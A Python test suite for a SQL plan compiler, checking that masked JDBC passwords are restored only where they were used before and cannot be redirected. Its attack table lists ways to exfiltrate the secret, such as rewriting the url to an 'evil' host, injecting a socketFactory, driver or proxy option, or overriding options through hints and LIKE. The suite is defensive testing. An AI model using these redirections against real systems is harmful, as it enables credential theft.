"""Secrets of the version in force are used where they were used before, and nowhere else."""

from __future__ import annotations

from typing import Any

import pytest

from compiled_plan.plans.errors import CompiledPlanError
from compiled_plan.service.workers.tasks.submitted import compile_, read

pytestmark = pytest.mark.attack

JDBC = "'connector' = 'jdbc', 'url' = 'jdbc:postgresql://db/a', 'table-name' = 't', 'username' = 'u', 'password' = '{}'"
ORDERS = f"CREATE TABLE orders (id INT, a STRING) WITH ({JDBC});\n"
SINK = "CREATE TABLE sink (id INT, a STRING) WITH ('connector' = 'print');\n"
INSERT = "INSERT INTO sink SELECT id, a FROM orders;"
PASSWORD = "ge'heim"
KNOWN = (ORDERS + SINK + INSERT).replace("{}", "ge''heim")
SHOWN = (ORDERS + SINK + INSERT).replace("{}", "******")


def compiled(text: str, known: str = KNOWN) -> dict[str, Any]:
    old = compile_(known)["plan"]
    result: dict[str, Any] = compile_(text, old=old, known=known)
    return result


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("", ""),
        ("SELECT id, a", "SELECT id, UPPER(a)"),
        ("'table-name' = 't'", "'table-name' = 't', 'scan.fetch-size' = '7'"),
        ("'password' = '******'", "'password' /* as before */\n = '******'"),
        ("FROM orders", "FROM orders /*+ OPTIONS('scan.fetch-size' = '7') */"),
        ("INSERT", "CREATE TABLE more WITH ('scan.fetch-size' = '7') LIKE orders; INSERT"),
        ("SELECT id, a", "SELECT id, CONCAT(a, '******')"),
    ],
)
def test_a_masked_secret_is_filled_in_at_its_place(old: str, new: str) -> None:
    result = compiled(SHOWN.replace(old, new))
    assert "'password' = 'ge''heim'" in result["program"]
    assert f'"password" : "{PASSWORD}"' in result["plan"]
    assert "******'" not in result["program"].replace("CONCAT(a, '******')", "")


#: Attempts of an editor to read the secret of `orders`, or to send it to another host.
ATTACKS = {
    "a literal": ("SELECT id, a", "SELECT id, CONCAT(a, 'password', '******')"),
    "another url": ("db/a", "evil/a"),
    "another port": ("db/a", "db:6666/a"),
    "another connector": ("'jdbc'", "'spark', 'provider' = 'x'"),
    "another driver": ("'username'", "'driver' = 'evil.Driver', 'username'"),
    "another table of the database": ("'table-name' = 't'", "'table-name' = 's'"),
    "a query": ("'table-name' = 't'", "'table-name' = '(SELECT * FROM s) t'"),
    "another table in a hint": ("FROM orders", "FROM orders /*+ OPTIONS('table-name' = 's') */"),
    "another table by LIKE": (
        INSERT,
        "CREATE TABLE more WITH ('table-name' = 's') LIKE orders (OVERWRITING OPTIONS);"
        "INSERT INTO sink SELECT id, a FROM more;",
    ),
    "a further parameter": ("db/a", "db/a?socketFactory=evil"),
    "an unknown option": ("'username'", "'proxy' = 'evil', 'username'"),
    "another table": ("TABLE orders", "TABLE other"),
    "another key": ("'table-name' = 't'", "'table-name' = '******'"),
    "a hint": ("FROM orders", "FROM orders /*+ OPTIONS('url' = 'jdbc:postgresql://evil/a') */"),
    "LIKE": (
        INSERT,
        "CREATE TABLE more WITH ('url' = 'jdbc:postgresql://evil/a') LIKE orders (OVERWRITING OPTIONS);"
        "INSERT INTO sink SELECT id, a FROM more;",
    ),
    "AS": (INSERT, f"CREATE TABLE more WITH ({JDBC.format('******')}) AS SELECT id, a FROM orders;"),
    "a setting": (INSERT, f"SET 'some.password' = '******'; {INSERT}"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_editor_does_not_read_a_secret_of_the_version_in_force(name: str) -> None:
    old, new = ATTACKS[name]
    text = SHOWN.replace(old, new)
    assert text != SHOWN
    try:
        result = compiled(text)
    except CompiledPlanError as fault:
        assert "heim" not in fault.render()
        return
    # Otherwise the literal is taken as it stands.
    assert name in ("a literal", "a setting")
    assert result["program"].count("heim") == 1


@pytest.mark.parametrize(
    "name",
    [
        *("another url", "an unknown option", "another table", "a hint", "LIKE", "another key"),
        *("another table of the database", "a query", "another table in a hint", "another table by LIKE"),
    ],
)
def test_a_secret_that_would_be_sent_elsewhere_must_be_entered_again(name: str) -> None:
    with pytest.raises(CompiledPlanError, match="is masked here") as raised:
        compiled(SHOWN.replace(*ATTACKS[name]))
    assert "write the" in raised.value.remedy


def test_a_secret_in_a_url_is_bound_to_its_host() -> None:
    known = KNOWN.replace("//db/a", "//u:tief@db/a")
    shown = SHOWN.replace("//db/a", "//u:******@db/a")
    assert "//u:tief@db/a" in compiled(shown, known)["program"]
    with pytest.raises(CompiledPlanError, match="is masked here"):
        compiled(shown.replace("@db", "@evil"), known)


def test_errors_and_warnings_show_no_secret_that_was_filled_in() -> None:
    for text in (SHOWN.replace("SELECT id, a", "SELECT id, b"), SHOWN.replace(") WITH", ", id INT) WITH")):
        with pytest.raises(CompiledPlanError) as raised:
            compiled(text)
        assert "heim" not in raised.value.render()


def test_nothing_is_filled_in_before_the_first_version() -> None:
    with pytest.raises(CompiledPlanError, match="'password' is masked here"):
        compile_(SHOWN)


@pytest.mark.parametrize("value", ["******", "jdbc:postgresql://u:******@db/a"])
def test_a_masked_plan_cannot_run(value: str) -> None:
    plan: str = compile_(KNOWN.replace("jdbc:postgresql://db/a", "jdbc:postgresql://u:tief@db/a"))["plan"]
    assert read(plan)["operators"] > 0
    for secret in ("jdbc:postgresql://u:tief@db/a", PASSWORD):
        with pytest.raises(CompiledPlanError, match="is masked in this plan"):
            read(plan.replace(secret, value))


def test_secrets_are_bound_to_their_table() -> None:
    more_options = JDBC.replace("db/a", "other/a").format("anderes")
    known = KNOWN.replace(INSERT, f"CREATE TABLE more (id INT) WITH ({more_options}); {INSERT}")
    more = JDBC.replace("db/a", "other/a").replace(", 'password' = '{}'", "")
    text = SHOWN.replace(INSERT, f"CREATE TABLE more WITH ({more}) LIKE orders (OVERWRITING OPTIONS); {INSERT}")
    with pytest.raises(CompiledPlanError, match="is masked here"):
        compiled(text.replace("FROM orders", "FROM more"), known)
